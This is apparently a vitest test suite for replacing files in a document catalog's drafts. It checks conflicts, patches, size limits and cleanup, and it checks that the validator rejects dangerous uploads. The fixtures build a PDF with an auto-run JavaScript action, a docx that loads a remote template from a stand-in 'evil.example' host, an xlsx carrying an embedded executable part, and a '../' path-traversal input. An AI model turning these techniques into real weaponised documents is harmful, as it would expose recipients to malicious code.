import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { CatalogDraft, CatalogFile, CatalogReplacement } from '../../../../src/generated/api.ts';
import { panelContent } from '../../../../src/generated/panel.ts';
import { loadAsset, removeUnusedAssets, storeAsset } from '../../../../src/server/content/catalog/asset-store.ts';
import { referenceTo } from '../../../../src/server/content/catalog/folder.ts';
import { preparedApi } from '../../../server/support/api.ts';
import { makePdf } from '../../../server/support/pdf/make-pdf.ts';
import { patched } from '../../../server/support/publications.ts';
import { inDatabase, preparedAdministrator, preparedMember } from '../../../server/support/staff-life.ts';
import { ANY_DATABASE_KIND } from '../../../support/database.ts';
import { officeFile, relation } from '../../../support/office-files.ts';
import { CATALOG } from '../../../support/root.ts';

const DOWNLOADS = 'downloads.yaml';
const GUIDE = 'files/guia-del-importador.pdf';
const PUBLISHED = readFileSync(join(CATALOG, GUIDE));

/** Returns a whole PDF, different for each name. */
function pdf(name: string): Buffer {
  return Buffer.concat([PUBLISHED, Buffer.from(`% ${name}\n%%EOF\n`)]);
}

const DANGEROUS: readonly (readonly [string, path: string, () => Buffer | Promise<Buffer>, words: string])[] = [
  [
    'JavaScript in a PDF',
    GUIDE,
    () => makePdf({ catalog: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>' }),
    'contiene un programa',
  ],
  [
    'a document with a template from elsewhere',
    'files/nyk-poder-liberacion-bl.docx',
    () => officeFile('docx', { relations: relation('attachedTemplate', 'https://evil.example/a.dotm', true) }),
    'carga una parte desde otro lugar',
  ],
  [
    'a workbook with a program',
    'files/nyk-autorizacion-funcionarios.xlsx',
    () => officeFile('xlsx', { parts: { 'xl/payload.exe': 'MZ' } }),
    'contiene otro archivo',
  ],
];

describe.each(ANY_DATABASE_KIND)('replacing files in catalog drafts (%s, S-110)', (kind) => {
  const api = preparedApi(kind);
  const boss = preparedAdministrator(api);
  const ana = preparedMember(boss, 'ana.ruiz');

  const send = async (path: string, bytes: Buffer, draft?: string, seen?: string) => {
    const shown = seen ?? (await assetOf(draft ?? null))?.version ?? referenceTo(PUBLISHED);
    const form = new FormData();
    form.append('file', new Blob([new Uint8Array(bytes)]), 'guia nueva (2).pdf');
    const query = new URLSearchParams({ path, seen: shown, ...(draft === undefined ? {} : { draft }) });
    return ana.call('POST', `/internal/catalog-assets?${query}`, { form });
  };
  const replaced = async (bytes: Buffer, draft?: string) => {
    const { status, body } = await send(GUIDE, bytes, draft);
    expect(status).toBe(200);
    return body as unknown as CatalogReplacement;
  };
  const draftOf = async (id: string | null) =>
    (await ana.get(`/internal/catalog-drafts/${id}`)).body as unknown as CatalogDraft;
  const assetOf = async (draft: string | null) => {
    const query = new URLSearchParams({ path: DOWNLOADS, ...(draft === null ? {} : { draft }) });
    const { assets } = (await ana.get(`/internal/catalog-file?${query}`)).body as unknown as CatalogFile;
    return assets.find(({ path }) => path === GUIDE);
  };
  const drafts = async () =>
    ((await ana.get('/internal/catalog-drafts')).body as unknown as { drafts: unknown[] }).drafts.length;

  it('begins a draft that shows the change and the new size; the published file stays as it is', async () => {
    expect(await assetOf(null)).toMatchObject({ path: GUIDE, bytes: PUBLISHED.length, isReplaced: false });
    const bytes = pdf('new');
    const { draft } = await replaced(bytes);
    expect(await assetOf(draft)).toMatchObject({ path: GUIDE, bytes: bytes.length, isReplaced: true });
    const { files, errors, changes } = await draftOf(draft);
    expect({ files, errors }).toEqual({ files: [GUIDE], errors: 0 });
    expect(changes).toMatchObject([{ entry: 'La descarga «Guía del importador»', file: DOWNLOADS }]);
    expect(readFileSync(join(CATALOG, GUIDE)).equals(PUBLISHED)).toBe(true);
  });

  it('is refused for its own problems alone, whatever file an error elsewhere in the draft names', async () => {
    const body = { path: DOWNLOADS, kind: 'set', pointer: '/downloads/0/file', value: JSON.stringify(`${GUIDE}.docx`) };
    const changed = await ana.call('PATCH', '/internal/catalog-file', { body });
    const { draft, errors } = changed.body as unknown as CatalogFile;
    expect(errors).toBeGreaterThan(0);
    expect(await replaced(pdf('beside an error'), draft ?? '')).toMatchObject({ draft, problems: [] });
  });

  it('yields a patch for git apply, together with changed texts', { tags: ['deep'] }, async () => {
    const bytes = pdf('patched');
    const { draft } = await replaced(bytes);
    const body = { path: DOWNLOADS, draft, kind: 'set', pointer: '/downloads/2/label/es', value: '"Guía nueva"' };
    await ana.call('PATCH', '/internal/catalog-file', { body });
    const patch = await ana.get(`/internal/catalog-drafts/${draft}/changes.patch`);
    const folder = patched(patch.text, DOWNLOADS, GUIDE);
    expect(readFileSync(join(folder, GUIDE)).equals(bytes)).toBe(true);
    expect(readFileSync(join(folder, DOWNLOADS), 'utf8')).toContain('Guía nueva');
    execFileSync('git', ['apply', '--reverse', '-'], { cwd: join(folder, '..'), input: patch.text });
    expect(readFileSync(join(folder, GUIDE)).equals(PUBLISHED)).toBe(true);
  });

  it('can be repeated: the draft has the last file byte for byte, beside changed texts', {
    tags: ['deep'],
  }, async () => {
    const { draft } = await replaced(pdf('first'));
    const body = { path: DOWNLOADS, draft, kind: 'set', pointer: '/downloads/2/label/es', value: '"Guía nueva"' };
    await ana.call('PATCH', '/internal/catalog-file', { body });
    await replaced(pdf('second'), String(draft));
    expect((await draftOf(draft)).files).toEqual([DOWNLOADS, GUIDE]);
    await inDatabase(api, async (database) => {
      const files = await database.query
        .selectFrom('catalogDraftFiles')
        .select('content')
        .where('draftId', '=', String(draft))
        .orderBy('path')
        .execute();
      const [catalog, guide] = files.map(({ content }) => content);
      expect(catalog).toContain('Guía nueva');
      expect(Buffer.from(await loadAsset(database, guide ?? '')).equals(pdf('second'))).toBe(true);
    });
  });

  it('changes nothing if the file equals the published one', { tags: ['deep'] }, async () => {
    const before = await drafts();
    expect(await replaced(PUBLISHED)).toEqual({ draft: null, isSame: true, problems: [] });
    expect(await drafts()).toBe(before);
    const { draft } = await replaced(pdf('mistaken'));
    expect(await replaced(PUBLISHED, String(draft))).toMatchObject({ draft, isSame: true });
    expect((await draftOf(draft)).files).toEqual([]);
  });

  it('refuses to replace what somebody else has replaced since it was read (S-105)', async () => {
    const { draft } = await replaced(pdf('seen'));
    const id = String(draft);
    const seen = (await assetOf(draft))?.version;
    await replaced(pdf('of another person'), id);
    for (const bytes of [pdf('late'), PUBLISHED]) {
      const refused = await send(GUIDE, bytes, id, seen);
      expect(refused).toMatchObject({ status: 409, body: { error: { code: 'changed-meanwhile' } } });
    }
    expect((await assetOf(draft))?.version).toBe(referenceTo(pdf('of another person')));
    // Who saw an older publication than the present one begins no draft over it.
    expect((await send(GUIDE, pdf('late'), undefined, seen)).status).toBe(409);
    // A request whose response was lost is sent again.
    expect((await send(GUIDE, pdf('of another person'), id, seen)).status).toBe(200);
  });

  it.each([
    ['of another type', readFileSync(join(CATALOG, 'files/nyk-poder-liberacion-bl.docx')), 'no es pdf'],
    ['that was cut off', PUBLISHED.subarray(0, 40_000), 'dañado'],
    ['without anything in it', Buffer.alloc(0), 'vacío'],
  ])('refuses a file %s with an explanation and keeps nothing', async (_case, bytes, words) => {
    const before = await drafts();
    const { draft, problems } = await replaced(bytes);
    expect(draft).toBe(null);
    expect(problems.map(({ message }) => message).join()).toContain(words);
    expect(await drafts()).toBe(before);
  });

  it.each(DANGEROUS)(
    'refuses a dangerous file and keeps the former one: %s (S-119)',
    async (_what, path, bytes, words) => {
      const { draft } = await replaced(pdf('former'));
      const published = referenceTo(readFileSync(join(CATALOG, path)));
      const { status, body } = await send(path, await bytes(), String(draft), path === GUIDE ? undefined : published);
      expect(status).toBe(200);
      const { problems } = body as unknown as CatalogReplacement;
      expect(problems.map(({ message }) => message)).toEqual([expect.stringContaining(words)]);
      expect(problems[0]?.message).toContain(`${path} puede ser peligroso`);
      expect((await draftOf(draft)).files).toEqual([GUIDE]);
      expect((await assetOf(draft))?.version).toBe(referenceTo(pdf('former')));
    },
  );

  it('refuses a file larger than the catalog allows with 413', async () => {
    expect((await send(GUIDE, Buffer.alloc((panelContent?.maxFileBytes ?? 0) + 1))).status).toBe(413);
  });

  it.each([
    ['that is YAML', DOWNLOADS],
    ['that is a drawing of pages', 'icons/document.svg'],
    ['that is not there', 'files/nobody.pdf'],
    ['of another folder', 'files/../../package.json'],
  ])('returns 404 for a file %s', async (_case, path) => {
    expect((await send(path, pdf('x'))).status).toBe(404);
  });

  it('returns 404 for a draft that does not exist', async () => {
    expect((await send(GUIDE, pdf('x'), '01900000-0000-7000-8000-000000000000', referenceTo(PUBLISHED))).status).toBe(
      404,
    );
  });

  it('reports a file changed outside as a conflict and keeps that of the draft', async () => {
    const { draft } = await replaced(pdf('mine'));
    await inDatabase(api, async (database) => {
      const base = await storeAsset(database, pdf('former'));
      // The published file differs from the one that the draft is based on, and is not stored as an asset.
      await database.query
        .updateTable('catalogDraftFiles')
        .set({ base })
        .where('draftId', '=', String(draft))
        .execute();
      await database.query.deleteFrom('catalogAssets').where('reference', '=', referenceTo(PUBLISHED)).execute();
    });
    expect((await draftOf(draft)).outdated).toEqual([GUIDE]);
    const updated = await ana.call('POST', `/internal/catalog-drafts/${draft}/update`);
    expect(updated.body).toEqual({ conflicts: [{ file: GUIDE, pointer: '', place: [] }] });
    expect(await draftOf(draft)).toMatchObject({ outdated: [], files: [GUIDE] });
    const patch = await ana.get(`/internal/catalog-drafts/${draft}/changes.patch`);
    expect(patch.text).toContain('GIT binary patch');
  });

  it('lets a cleanup delete stored bytes only when they are old and in no draft', async () => {
    const { draft } = await replaced(pdf('kept'));
    const other = await replaced(pdf('discarded'));
    await ana.call('POST', `/internal/catalog-drafts/${other.draft}/discard`);
    const stored = () =>
      inDatabase(api, async (database) => {
        await removeUnusedAssets(database);
        const rows = await database.query.selectFrom('catalogAssets').select('bytes').execute();
        const isStored = (name: string) => rows.some(({ bytes }) => pdf(name).equals(bytes));
        return { kept: isStored('kept'), discarded: isStored('discarded') };
      });
    expect(await stored()).toEqual({ kept: true, discarded: true });
    await inDatabase(api, ({ query }) => query.updateTable('catalogAssets').set({ storedAt: 0 }).execute());
    expect(await stored()).toEqual({ kept: true, discarded: false });
    expect((await draftOf(draft)).errors).toBe(0);
  });
});
